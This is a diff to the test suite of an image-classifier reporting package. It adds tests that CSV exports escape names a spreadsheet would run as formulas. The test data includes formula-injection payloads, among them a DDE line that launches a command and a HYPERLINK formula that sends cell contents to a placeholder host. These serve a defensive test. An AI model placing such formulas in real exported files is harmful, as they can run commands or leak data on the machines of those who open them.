@@ -28,7 +28,9 @@ from imgclf.report.tables import (
     per_class_csv,
     per_class_table,
     predictions_csv,
+    read_confusion_csv,
     read_history_csv,
+    read_predictions_csv,
     write_csv,
 )
 
@@ -115,7 +117,7 @@ def test_predictions_csv_survives_odd_names(tmp_path: Path) -> None:
     files = ["a.png", Path("x, y") / "b.png", 'c".png', "new\nline.png", "bytes\udcff.png"]
     predictions_csv(tmp_path / "p.csv", files, targets, probabilities, ODD_NAMES)
     header, *rows = read_csv(tmp_path / "p.csv")
-    assert header == ["file", "true", "predicted", *ODD_NAMES]
+    assert header == ["file", "true", "predicted", *(f"p({name})" for name in ODD_NAMES)]
     assert [row[0] for row in rows] == ["a.png", str(files[1]), 'c".png', "new\nline.png", "bytes\\udcff.png"]
     assert [row[1] for row in rows] == [ODD_NAMES[target] for target in targets]
     assert [row[2] for row in rows] == [ODD_NAMES[best] for best in probabilities.argmax(axis=1)]
@@ -131,11 +133,80 @@ def test_predictions_csv_without_targets(tmp_path: Path) -> None:
     assert [row[1] for row in read_csv(tmp_path / "p.csv")] == ["true", "", ""]
     assert b"\r" not in (tmp_path / "p.csv").read_bytes()
     predictions_csv(tmp_path / "none.csv", [], None, np.zeros((0, 3)), ["x", "y", "z"])
-    assert read_csv(tmp_path / "none.csv") == [["file", "true", "predicted", "x", "y", "z"]]
+    assert read_csv(tmp_path / "none.csv") == [["file", "true", "predicted", "p(x)", "p(y)", "p(z)"]]
     with pytest.raises(ValueError, match=r"expected 0\.\.2"):
         predictions_csv(tmp_path / "p.csv", ["a", "b"], targets * 0 - 1, probabilities, ["x", "y", "z"])
     with pytest.raises(ValueError, match=r"\[3 files, 3 classes\]"):
         predictions_csv(tmp_path / "p.csv", ["a", "b", "c"], None, probabilities, ["x", "y", "z"])
+
+
+FORMULAS = [
+    "=1+1",
+    "+cmd|' /C calc'!A0",
+    "@SUM(A1)",
+    "-2+3",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    '=HYPERLINK("http://x/?"&A1,"a")',
+    "'=1",
+    "''=1",
+    "\uff1d1+1",
+    "-a.png",
+    "-1_000",
+]
+PLAIN = ["-1", "+5.5e-3", "-", "'quoted'", "a=b", "true", "file", "predicted", "p(x)", "1-2", "-inf"]
+
+
+@pytest.mark.trust(
+    "names that a spreadsheet runs as formulas, in the CSVs of a run", "a formula, or another name read back"
+)
+@pytest.mark.parametrize("name", [*FORMULAS, *PLAIN])
+def test_no_cell_is_a_formula_and_names_are_read_back(tmp_path: Path, name: str) -> None:
+    probabilities, targets = random_predictions(4, 2)
+    classes, files = [name, "other"], [name, "a.png", f"{name}/b.png", "c.png"]
+    predictions_csv(tmp_path / "p.csv", files, targets, probabilities, classes)
+    confusion_csv(tmp_path / "c.csv", classes, np.array([[1, 2], [3, 4]]))
+    per_class_csv(tmp_path / "k.csv", classes, np.array([[1, 2], [3, 4]]))
+    for table in ("p.csv", "c.csv", "k.csv"):
+        for cell in (cell for row in read_csv(tmp_path / table) for cell in row if cell not in PLAIN):
+            assert cell[:1] not in tuple("=+@-\t\r\n\uff1d"), f"{table}: {cell!r}"
+    known, rows = read_predictions_csv(tmp_path / "p.csv")
+    assert known == classes and [row[0] for row in rows] == files
+    assert [row[1] for row in rows] == [classes[target] for target in targets]
+    assert [row[2] for row in rows] == [classes[best] for best in probabilities.argmax(axis=1)]
+    known, counts = read_confusion_csv(tmp_path / "c.csv")
+    assert known == classes and counts.tolist() == [[1, 2], [3, 4]]
+
+
+def test_numbers_stay_numbers_in_every_cell(tmp_path: Path) -> None:
+    write_csv(
+        tmp_path / "n.csv", ["a"], [[-1], [-0.5], [np.float32(-2)], ["-1.5"], ["-1e-07"], ["-inf"], ["-"], [None]]
+    )
+    assert [row[0] for row in read_csv(tmp_path / "n.csv")[1:]] == [
+        "-1",
+        "-0.5",
+        "-2.0",
+        "-1.5",
+        "-1e-07",
+        "-inf",
+        "-",
+        "",
+    ]
+
+
+def test_predictions_of_an_earlier_version_are_read_by_position(tmp_path: Path) -> None:
+    (tmp_path / "p.csv").write_text("file,true,predicted,file,true\na.png,true,file,0.7,0.3\n")
+    assert read_predictions_csv(tmp_path / "p.csv") == (["file", "true"], [["a.png", "true", "file", "0.7", "0.3"]])
+
+
+@pytest.mark.parametrize(
+    "content", ["", "a,b,c\n", "file,true,predicted,p(a)\nx,a,a\n", "file,predicted,p(a)\nx,a,1\n"]
+)
+def test_reading_another_file_as_predictions_raises_data_error(tmp_path: Path, content: str) -> None:
+    (tmp_path / "p.csv").write_text(content)
+    with pytest.raises(DataError, match=r"p\.csv: can't be read"):
+        read_predictions_csv(tmp_path / "p.csv")
 
 
 # History
